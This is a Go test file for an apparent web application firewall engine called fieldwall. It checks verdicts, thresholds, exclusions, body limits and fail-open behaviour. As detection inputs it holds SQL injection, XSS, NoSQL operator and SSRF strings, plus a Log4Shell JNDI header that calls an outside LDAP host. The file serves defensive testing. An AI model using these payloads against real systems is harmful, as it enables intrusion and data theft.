package engine_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fieldwall/fieldwall/corpus"
	"github.com/fieldwall/fieldwall/engine"
	"github.com/fieldwall/fieldwall/rules"
)

func newEngine(t testing.TB, cfg engine.Config) *engine.Engine {
	t.Helper()
	e, err := engine.New(cfg)
	require.NoError(t, err)
	return e
}

func jsonRequest(target, body string) *engine.Request {
	return &engine.Request{
		Method: http.MethodPost,
		Target: target,
		Header: http.Header{"Content-Type": {"application/json"}},
		Body:   []byte(body),
	}
}

func ruleIDs(v engine.Verdict) []string { return v.RuleIDs() }

// checkCorpusFile inspects every case of a request corpus file and requires
// each verdict to match its expectation.
func checkCorpusFile(t *testing.T, e *engine.Engine, name string) {
	t.Helper()
	ran := 0
	err := corpus.ReadFile(name, func(c corpus.Case) error {
		ran++
		t.Run(c.Record.ID, func(t *testing.T) {
			v := e.Inspect(&c.Request)
			r := corpus.Result{Case: c, Verdict: v}
			assert.True(t, r.Correct(), "%s: expected %s, got %s with rules %v (%s)", c.Record.ID, c.Record.Expect, v.Action, v.RuleIDs(), c.Record.Why)
		})
		return nil
	})
	require.NoError(t, err)
	require.Positive(t, ran)
}

func TestInspectOwnVectors(t *testing.T) {
	root, err := corpus.ModuleRoot()
	require.NoError(t, err)
	checkCorpusFile(t, newEngine(t, engine.Config{}), filepath.Join(root, "corpus", "vectors", "requests.jsonl"))
}

func TestInspectSharedExamples(t *testing.T) {
	dir, err := corpus.SharedDir()
	require.NoError(t, err)
	checkCorpusFile(t, newEngine(t, engine.Config{}), filepath.Join(dir, "requests", "examples.jsonl"))
}

func TestInspectFindingFields(t *testing.T) {
	e := newEngine(t, engine.Config{})
	v := e.Inspect(jsonRequest("/api/login", `{"user":"admin","pass":{"$ne":null}}`))
	require.Equal(t, engine.ActionBlock, v.Action)
	require.NotEmpty(t, v.Findings)
	f := v.Findings[0]
	assert.Equal(t, "nosqli-operator-key", f.RuleID)
	assert.Equal(t, "nosqli", f.Class)
	assert.Equal(t, "critical", f.Severity)
	assert.Equal(t, "body", f.Location)
	assert.Equal(t, `pass["$ne"]`, f.Path)
	assert.Equal(t, "$ne", f.Evidence)
	assert.Equal(t, 5, v.Scores["nosqli"])
	assert.Equal(t, []string{"nosqli"}, v.Classes())
}

func TestInspectBenignAllows(t *testing.T) {
	e := newEngine(t, engine.Config{})
	v := e.Inspect(jsonRequest("/api/orders", `{"items":[{"sku":"A-1","qty":2}],"note":"Leave at the door, please."}`))
	assert.Equal(t, engine.ActionAllow, v.Action)
	assert.Empty(t, v.Findings)
	assert.Empty(t, v.Scores)
}

func TestVerdictJSONIsStable(t *testing.T) {
	e := newEngine(t, engine.Config{})
	req := jsonRequest("/api/x", `{"a":"<script>alert(1)</script>","b":"1' OR '1'='1"}`)
	first, err := json.Marshal(e.Inspect(req))
	require.NoError(t, err)
	for range 5 {
		again, err := json.Marshal(e.Inspect(req))
		require.NoError(t, err)
		assert.JSONEq(t, string(first), string(again))
		assert.Equal(t, string(first), string(again), "byte-identical JSON")
	}
	var decoded map[string]any
	require.NoError(t, json.Unmarshal(first, &decoded))
	assert.Equal(t, "block", decoded["action"])
	assert.Contains(t, decoded, "scores")
	assert.Contains(t, decoded, "findings")
}

func TestDetectOnlyLogs(t *testing.T) {
	e := newEngine(t, engine.Config{DetectOnly: true})
	v := e.Inspect(jsonRequest("/api/x", `{"q":"1' OR '1'='1"}`))
	assert.Equal(t, engine.ActionLog, v.Action)
	assert.False(t, v.Blocked())
	assert.NotEmpty(t, v.Findings)
}

func TestThresholdAndSeverity(t *testing.T) {
	// A byte-order mark is a warning (3): it does not block at the default
	// threshold of 5, but does at a threshold of 3.
	body := "\ufeff{\"a\":1}"
	v := newEngine(t, engine.Config{}).Inspect(jsonRequest("/api/x", body))
	assert.Equal(t, engine.ActionAllow, v.Action)
	assert.Equal(t, []string{"parser-byte-order-mark"}, ruleIDs(v))

	v = newEngine(t, engine.Config{Threshold: 3}).Inspect(jsonRequest("/api/x", body))
	assert.Equal(t, engine.ActionBlock, v.Action)
}

func TestParanoiaLevels(t *testing.T) {
	req := jsonRequest("/api/db", `{"url":"postgres://u:p@10.0.0.5:5432/app"}`)
	assert.Equal(t, engine.ActionAllow, newEngine(t, engine.Config{}).Inspect(req).Action)
	v := newEngine(t, engine.Config{Paranoia: 2}).Inspect(req)
	assert.Equal(t, engine.ActionBlock, v.Action)
	assert.Contains(t, ruleIDs(v), "ssrf-private-url")
}

func TestExclusions(t *testing.T) {
	req := jsonRequest("/api/snippets", `{"code":"<script>alert(1)</script>","title":"<script>x</script>"}`)
	cases := []struct {
		name      string
		exclusion engine.Exclusion
		blocked   bool
	}{
		{"class on one field", engine.Exclusion{Path: "/api/snippets", Field: "body:code", Classes: []string{"xss"}}, true},
		{"class on every field of the path", engine.Exclusion{Path: "/api/snippets", Classes: []string{"xss"}}, false},
		{"other path", engine.Exclusion{Path: "/api/other", Classes: []string{"xss"}}, true},
		{"wildcard field", engine.Exclusion{Path: "/api/*", Field: "body:*", Classes: []string{"xss"}}, false},
		{"rule ids", engine.Exclusion{Rules: []string{"xss-libinjection", "xss-script-tag", "xss-active-tag", "xss-event-handler", "xss-script-call"}}, false},
	}
	require.NotEmpty(t, cases)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := newEngine(t, engine.Config{Exclusions: []engine.Exclusion{tc.exclusion}})
			v := e.Inspect(req)
			assert.Equal(t, tc.blocked, v.Blocked(), "rules %v", v.RuleIDs())
		})
	}
}

func TestConfigValidation(t *testing.T) {
	cases := []struct {
		name string
		cfg  engine.Config
		msg  string
	}{
		{"paranoia too high", engine.Config{Paranoia: 5}, "invalid paranoia level 5"},
		{"negative threshold", engine.Config{Threshold: -1}, "invalid threshold"},
		{"empty exclusion", engine.Config{Exclusions: []engine.Exclusion{{}}}, "exclusion 0 is empty"},
	}
	require.NotEmpty(t, cases)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := engine.New(tc.cfg)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.msg)
		})
	}
}

func TestDisabledAndExtraRules(t *testing.T) {
	extra, err := rules.ParseBytes("extra.rules", []byte("rule custom-blink\n class xss\n severity critical\n keywords \"<blink\"\n"))
	require.NoError(t, err)
	e := newEngine(t, engine.Config{ExtraRules: extra, DisabledRules: []string{"nosqli-operator-key"}})

	v := e.Inspect(jsonRequest("/x", `{"t":"<blink>hi"}`))
	assert.Contains(t, ruleIDs(v), "custom-blink")

	v = e.Inspect(jsonRequest("/x", `{"pass":{"$ne":1}}`))
	assert.NotContains(t, ruleIDs(v), "nosqli-operator-key")
	for _, r := range e.Rules() {
		assert.NotEqual(t, "nosqli-operator-key", r.ID)
	}
}

func TestHeadersAndCookies(t *testing.T) {
	req := &engine.Request{Method: http.MethodGet, Target: "/", Header: http.Header{
		"User-Agent": {"${jndi:ldap://198.51.100.7/a}"},
		"Accept":     {"*/*"},
		"Cookie":     {"id=1' OR '1'='1"},
	}}
	v := newEngine(t, engine.Config{}).Inspect(req)
	locations := map[string]bool{}
	for _, f := range v.Findings {
		locations[f.Location] = true
	}
	assert.True(t, locations["header"], "User-Agent is inspected")
	assert.True(t, locations["cookie"], "cookies are inspected")

	v = newEngine(t, engine.Config{Headers: []string{}}).Inspect(req)
	for _, f := range v.Findings {
		assert.NotEqual(t, "header", f.Location, "an empty header list inspects no header")
	}
}

func TestBodyLimitReported(t *testing.T) {
	e := newEngine(t, engine.Config{Limits: engine.Limits{MaxBodyBytes: 64}})
	v := e.Inspect(jsonRequest("/x", `{"a":"`+strings.Repeat("x", 200)+`"}`))
	assert.Contains(t, ruleIDs(v), "limit-body")
	assert.Equal(t, engine.ActionBlock, v.Action)
}

func TestEvidenceIsBoundedAndCopied(t *testing.T) {
	e := newEngine(t, engine.Config{})
	body := []byte(`{"a":"<script>` + strings.Repeat("A", 500) + `</script>"}`)
	req := jsonRequest("/x", string(body))
	v := e.Inspect(req)
	require.NotEmpty(t, v.Findings)
	before := v.Findings[0].Evidence
	assert.LessOrEqual(t, len(before), engine.MaxEvidenceBytes)
	for i := range req.Body {
		req.Body[i] = 'Z'
	}
	assert.Equal(t, before, v.Findings[0].Evidence, "evidence does not alias the request body")
}

func TestInspectHTTPRestoresBody(t *testing.T) {
	e := newEngine(t, engine.Config{Limits: engine.Limits{MaxBodyBytes: 16}})
	body := `{"q":"hello world, this body is longer than the limit"}`
	r := httptest.NewRequest(http.MethodPost, "/api/search?x=1", strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	v, err := e.InspectHTTP(r)
	require.NoError(t, err)
	assert.Contains(t, ruleIDs(v), "limit-body")
	rest, err := io.ReadAll(r.Body)
	require.NoError(t, err)
	assert.Equal(t, body, string(rest), "the next handler reads the whole body")
	require.NoError(t, r.Body.Close())
}

func TestConcurrentInspect(t *testing.T) {
	e := newEngine(t, engine.Config{})
	attack := jsonRequest("/x", `{"q":"1 UNION SELECT password FROM users--"}`)
	benign := jsonRequest("/x", `{"q":"blue running shoes"}`)
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if !e.Inspect(attack).Blocked() {
					errs <- "attack allowed"
				}
				if e.Inspect(benign).Blocked() {
					errs <- "benign blocked"
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for msg := range errs {
		t.Error(msg)
	}
}

func TestInspectNeverPanics(t *testing.T) {
	inputs := []string{
		"", "{", "[[[[[[", `{"a":`, "\x00\x01\x02", "\xff\xfe\xfd", strings.Repeat("[", 100_000),
		`{"a":"\ud800\udc00\ud800"}`, strings.Repeat(`{"a":`, 5000), "%%%%", "\ufeff",
	}
	e := newEngine(t, engine.Config{})
	for _, ct := range []string{"application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain", ""} {
		for _, in := range inputs {
			req := &engine.Request{Method: "POST", Target: "/" + in, Header: http.Header{"Content-Type": {ct}, "Cookie": {in}}, Body: []byte(in)}
			assert.NotPanics(t, func() { e.Inspect(req) }, "%s %q", ct, in)
		}
	}
}

func TestFailOpenPolicy(t *testing.T) {
	oversized := jsonRequest("/x", `{"a":"`+strings.Repeat("x", 200)+`"}`)
	malformed := jsonRequest("/x", `{"a":`)
	attackOverLimit := jsonRequest("/x", `{"q":"<script>alert(1)</script>","pad":"`+strings.Repeat("x", 200)+`"}`)
	limits := engine.Limits{MaxBodyBytes: 100}

	closed := newEngine(t, engine.Config{Limits: limits})
	open := newEngine(t, engine.Config{Limits: limits, FailOpen: true})

	for name, req := range map[string]*engine.Request{"oversized": oversized, "malformed": malformed} {
		v := closed.Inspect(req)
		assert.True(t, v.Blocked(), "%s blocks by default", name)
		require.NotEmpty(t, v.Findings)
		assert.True(t, v.Findings[0].Incomplete, "%s finding is marked incomplete", name)

		v = open.Inspect(req)
		assert.False(t, v.Blocked(), "%s passes when failing open", name)
		assert.NotEmpty(t, v.Findings, "%s is still reported", name)
	}
	assert.True(t, open.Inspect(attackOverLimit).Blocked(), "an attack found in the inspected prefix still blocks")
}

func TestLargeRequestDoesNotChangeLaterVerdicts(t *testing.T) {
	// A large request's state is dropped instead of pooled; the next
	// requests must be inspected exactly as on a fresh engine.
	e := newEngine(t, engine.Config{})
	small := jsonRequest("/x", `{"q":"1' OR '1'='1"}`)
	before := e.Inspect(small)
	large := jsonRequest("/x", `{"a":"`+strings.Repeat("<b>x</b> ", 100_000)+`"}`)
	e.Inspect(large)
	after := e.Inspect(small)
	assert.Equal(t, before, after)
}

func TestExcludedLimitFindingMarksNothing(t *testing.T) {
	// With the limit finding excluded, the complete finding before it must
	// not take over its incomplete mark.
	e := newEngine(t, engine.Config{
		Limits:     engine.Limits{MaxBodyBytes: 60},
		Exclusions: []engine.Exclusion{{Rules: []string{"limit-body", "parser-malformed-json"}}},
	})
	v := e.Inspect(jsonRequest("/x", `{"q":"<script>alert(1)</script>","pad":"`+strings.Repeat("x", 100)+`"}`))
	require.NotEmpty(t, v.Findings)
	for _, f := range v.Findings {
		assert.False(t, f.Incomplete, "%s is marked incomplete", f.RuleID)
	}
}
